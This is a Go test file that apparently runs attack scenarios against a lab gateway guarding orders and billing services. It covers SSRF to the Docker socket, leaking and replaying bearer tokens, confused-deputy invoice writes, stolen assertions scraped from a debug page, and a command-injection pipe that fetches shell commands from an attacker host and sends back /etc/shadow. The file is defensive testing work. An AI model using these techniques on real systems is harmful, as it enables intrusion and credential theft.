package main

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"time"
)

// tokenAttacks are those on what a token, and whatever stands in its place, is good for: that it leaves, that it is used
// elsewhere or later, that somebody else's rights are used. The other service is billing: bare where it is said, else behind a
// sallyport of its own, which believes ours.
func tokenAttacks() []attack {
	return []attack{
		{name: "a token, after an attempt to escape", what: "SSRF to the runtime's socket; the next requests of the same token, for one second",
			send: afterAnEscape, proof: ofOrders(), by: gate},
		{name: "the caller's token, leaked and replayed", what: "a preview in the caller's name of a server that is allowed and the attacker's; what arrives there is sent to the service",
			send: leaked("http://hooks.lab/"), proof: ofOrders(), by: behind},
		{name: "the caller's token in other spellings", what: "a preview of the same server with the token of a body: in base64 in the path, percent-encoded in the query, in a header, plain in the body",
			send: spelled("http://hooks.lab"), proof: arrived(), by: behind, ends: true},
		{name: "a deputy with more rights than its caller", what: "`POST /invoices`: the service writes invoices at billing with a token of its own, whoever asks",
			send: invoice, proof: ofBilling(), by: behind},
		{name: "a destination for other requests", what: "a preview of billing, which only `POST /invoices` has to do with",
			send: previewBilling, proof: ofBilling(), by: behind},
		{name: "a stolen assertion, at another service", what: "`GET /debug/last` shows the headers of another caller's request; what they hold is sent to billing",
			send: replayed(toBilling), proof: ofBilling(), by: gate},
		{name: "a stolen assertion, at its own service", what: "the same, sent to the service itself, in `Authorization` and in `Txn-Token`",
			send: replayed(toItself), proof: ofOrders(), by: gate},
		{name: "a stolen assertion, after its minute", what: "another name of billing's is answered by the attacker, who is sent what billing would get of a clerk's; 66 s later it is sent to billing",
			early: poisoned, send: afterAMinute, proof: ofBilling(), by: gate},
		{name: "a capability, after its request", what: "`GET /debug/last` shows another caller's request whole; 2 s later its capability is presented, from inside, for a request to billing",
			send: capability(own), proof: ofBilling(), by: behind},
		{name: "a capability of another instance", what: "the same at once, with the capability of a request to another instance",
			send: capability(another), proof: ofBilling(), by: behind},
		{name: "a shell that the attacker commands", what: "`GET /lookup?host=;` and a pipe of `curl`, `sh` and `curl`: the shell has its commands from the attacker, who gets what they say",
			send: commanded, proof: commandsRan(), by: walls, wall: "files", ends: true, quiet: true},
	}
}

// clerk is a good token of somebody who may write invoices.
func clerk(i *issuer) string {
	return i.rs256(claims(map[string]any{"sub": "clerk", "scope": "orders:read invoice:write"}))
}

// same is one token for several requests.
func same(token string) bearerOf { return func(*issuer) string { return token } }

// leaked has the service send its caller's token, and sends whatever arrived back to the service.
func leaked(to string) send {
	return func(ctx context.Context, s *service) answer {
		before := len(s.visits(ctx))
		a := s.ask(ctx, request{target: "/preview/as-me?url=" + url.QueryEscape(to), as: reader})
		for _, v := range s.visits(ctx)[before:] {
			if v.Header.Get("Authorization") != "" {
				return s.ask(ctx, request{target: "/orders", header: http.Header{"Authorization": v.Header["Authorization"]}})
			}
		}
		return a
	}
}

// spelled has the service send a token that it was given in a body, once in each spelling, each time another token: the
// first attempt ends it.
func spelled(to string) send {
	return func(ctx context.Context, s *service) (all answer) {
		percent := func(token string) string {
			var b strings.Builder
			for _, c := range []byte(token) {
				fmt.Fprintf(&b, "%%%02X", c)
			}
			return b.String()
		}
		for _, way := range []func(token string) (config map[string]any, sent string){
			func(t string) (map[string]any, string) {
				e := base64.StdEncoding.EncodeToString([]byte("session " + t))
				e = strings.ReplaceAll(e, "/", "%2F")
				return map[string]any{"url": to + "/pixel/" + e}, e
			},
			func(t string) (map[string]any, string) {
				e := percent(t)
				return map[string]any{"url": to + "/?s=" + e}, e
			},
			func(t string) (map[string]any, string) {
				return map[string]any{"url": to, "headers": map[string]string{"X-Session": t}}, t
			},
			func(t string) (map[string]any, string) {
				return map[string]any{"url": to, "method": "POST", "data": map[string]string{"session": t}}, t
			},
		} {
			token := reader(s.lab.issuer)
			config, sent := way(token)
			body, err := json.Marshal(config)
			if err != nil {
				return answer{err: err}
			}
			a := s.ask(ctx, request{method: http.MethodPost, target: "/preview", as: same(token), kind: "application/json", body: body})
			s.sentTo = append(s.sentTo, sent)
			all.body, all.err = all.body+a.body+"\n", errors.Join(all.err, a.err)
		}
		return all
	}
}

func arrived() proof {
	return proof{"the attacker's server has the token, so spelled", func(ctx context.Context, s *service, _ answer) bool {
		seen := s.seen(ctx)
		for _, sent := range s.sentTo {
			if strings.Contains(seen, sent) {
				return true
			}
		}
		return false
	}}
}

func ofBilling() proof {
	return says("what only billing has is in the answer", func(s *secrets) string { return s.billing })
}

// invoice has the service write an invoice for a caller who may not.
func invoice(ctx context.Context, s *service) answer {
	s.settle(ctx)
	return s.post(ctx, "/invoices", map[string]any{"amount": -1000})
}

func previewBilling(ctx context.Context, s *service) answer {
	s.settle(ctx)
	return s.post(ctx, "/preview", map[string]any{"url": "http://" + s.billing + "/invoices"})
}

// writeInvoice is what a clerk may.
func writeInvoice(body string) request {
	return request{method: http.MethodPost, target: "/invoices", as: clerk, kind: "application/json", body: []byte(body)}
}

// overheard is what the forgotten page says of a request that another caller has just made.
func (s *service) overheard(ctx context.Context, clerks request) (string, error) {
	s.settle(ctx)
	if a := s.ask(ctx, clerks); a.err != nil {
		return "", a.err
	}
	a := s.ask(ctx, request{target: "/debug/last", as: reader})
	return a.body, a.err
}

// replayed presents what another caller's request came to the service with.
func replayed(to func(*service) (address, target string)) send {
	return func(ctx context.Context, s *service) (all answer) {
		page, err := s.overheard(ctx, request{target: "/orders", as: clerk})
		if err == nil {
			err = s.prelude()
		}
		if err != nil {
			return answer{err: err}
		}
		for _, found := range []string{part(page, `authorization: 'Bearer ([^']+)'`), part(page, `'txn-token': '([^']+)'`)} {
			if found == "" {
				continue
			}
			address, target := to(s)
			for _, h := range []http.Header{{"Authorization": {"Bearer " + found}}, {"Txn-Token": {found}}} {
				a := s.ask(ctx, request{to: address, target: target, header: h})
				all.body, all.err = all.body+a.body+"\n", errors.Join(all.err, a.err)
			}
		}
		if all == (answer{}) {
			all.err = fmt.Errorf("the page shows nothing: %.300s", page)
		}
		return all
	}
}

// prelude says that what is on record so far is not the attack's, but what it had others do.
func (s *service) prelude() (err error) {
	s.before, err = s.books()
	return err
}

func part(page, pattern string) string {
	if m := regexp.MustCompile(pattern).FindStringSubmatch(page); m != nil {
		return m[1]
	}
	return ""
}

func toItself(*service) (address, target string) { return "", "/orders" }

func toBilling(s *service) (address, target string) { return s.billingAddress(), "/invoices" }

// poisoned is what comes before afterAMinute: a clerk writes an invoice at a place whose name leads to the attacker.
func poisoned(ctx context.Context, s *service) answer {
	s.settle(ctx)
	before := len(s.visits(ctx))
	a := s.ask(ctx, writeInvoice(`{"amount":1,"at":"ledger.lab"}`))
	for _, v := range s.visits(ctx)[before:] {
		s.stolen = append(s.stolen, v.Header)
	}
	s.stolenAt = time.Now()
	return a
}

// afterAMinute presents to billing what the attacker was sent, when an assertion of then has ended by any clock.
func afterAMinute(ctx context.Context, s *service) (all answer) {
	select {
	case <-time.After(time.Until(s.stolenAt.Add(lifetime))):
	case <-ctx.Done():
		return answer{err: ctx.Err()}
	}
	for _, h := range s.stolen {
		presented := http.Header{}
		for _, name := range []string{"Authorization", "Txn-Token"} {
			if v := h[name]; len(v) > 0 {
				presented[name] = v
			}
		}
		a := s.ask(ctx, request{to: s.billingAddress(), method: http.MethodPost, target: "/invoices", header: presented})
		all.body, all.err = all.body+a.body+"\n", errors.Join(all.err, a.err)
	}
	return all
}

func own(s *service) *service     { return s }
func another(s *service) *service { return s.other }

// capability presents the capability of another caller's request from inside the service, by a connection of its own making.
// Where none was found, none is presented.
func capability(of func(*service) *service) send {
	return func(ctx context.Context, s *service) answer {
		page, err := of(s).overheard(ctx, writeInvoice(`{"amount":1}`))
		if err == nil {
			err = s.prelude()
		}
		if err != nil {
			return answer{err: err}
		}
		found := part(page, `'x-sallyport-capability': '([A-Za-z0-9_-]+)'`)
		if found == "" {
			found = part(page, `capability: '([A-Za-z0-9_-]+)'`)
		}
		if of(s) == s {
			pause(ctx, tail)
		}
		presented := ""
		if found != "" {
			presented = `X-Sallyport-Capability: ` + found + `\r\n`
		}
		return script(`return new Promise((resolve, reject) => {
			let said = '';
			const c = require('node:net').connect(80, '`+s.billing+`', () => c.write('GET /invoices HTTP/1.1\r\nHost: `+s.billing+`\r\nConnection: close\r\n`+presented+`\r\n'));
			c.setTimeout(5000, () => c.destroy());
			c.on('data', (d) => (said += d)).on('close', () => resolve(said)).on('error', reject);
		})`)(ctx, s)
	}
}

// commanded has a shell fetch its commands from the attacker, and what they say sent to him.
func commanded(ctx context.Context, s *service) answer {
	s.alone(ctx)
	s.visited = len(s.visits(ctx))
	attacker := labAddress(atAttacker)
	return spaced(shell("curl -sS --max-time 5 "+attacker+"/commands | sh | curl -sS --max-time 5 --data-binary @- "+attacker+"/said"))(ctx, s)
}

// spaced sends what may start a shell, a second after the last that did: of the same attempts in one second the log has one.
func spaced(send send) send {
	return func(ctx context.Context, s *service) answer {
		if s.key != "bare" && s.key != "without_walls" {
			pause(ctx, time.Until(s.shelled.Add(1100*time.Millisecond)))
		}
		a := send(ctx, s)
		s.shelled = time.Now()
		return a
	}
}

func commandsRan() proof {
	return proof{"the attacker's server has the content of /etc/shadow", func(ctx context.Context, s *service, _ answer) bool {
		for range 10 { // the last of the pipe may be on its way
			for _, v := range s.visits(ctx)[s.visited:] {
				if strings.Contains(v.Body, s.lab.secret.shadow) {
					return true
				}
			}
			pause(ctx, 50*time.Millisecond)
		}
		return false
	}}
}

// afterAnEscape goes on with a token that was used for an attempt to get out, for one second: the last answer counts.
func afterAnEscape(ctx context.Context, s *service) answer {
	s.alone(ctx)
	token := same(reader(s.lab.issuer))
	body := []byte(`{"url":"http://engine/version","socketPath":"/var/run/docker.sock"}`)
	s.ask(ctx, request{method: http.MethodPost, target: "/preview", as: token, kind: "application/json", body: body})
	var last answer
	for began := time.Now(); time.Since(began) < time.Second; pause(ctx, 50*time.Millisecond) {
		last = s.ask(ctx, request{target: "/orders", as: token})
		if !strings.Contains(last.body, s.lab.secret.orders) {
			break
		}
	}
	return last
}

// lifetime is for how long an assertion is believed at most: its minute, 5 s that clocks may differ, and one more.
const lifetime = 66 * time.Second

// tail is for how long a request counts after its answer, and a little longer.
const tail = 2200 * time.Millisecond

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-time.After(d):
	case <-ctx.Done():
	}
}

// alone waits until no earlier request can be taken for the cause of what comes, where there is a gate behind that asks.
func (s *service) alone(ctx context.Context) {
	if s.key == "guarded" || s.key == "without_walls" {
		pause(ctx, time.Until(s.answered.Add(tail)))
	}
}

// settle does that where the service names no causes.
func (s *service) settle(ctx context.Context) {
	if s.key == "without_walls" {
		s.alone(ctx)
	}
}

// billingAddress is where billing's callers connect.
func (s *service) billingAddress() string {
	at := atBilling
	if s.billing == bareBilling {
		at = atBillingBare
	}
	return net.JoinHostPort(labAddress(at), "80")
}
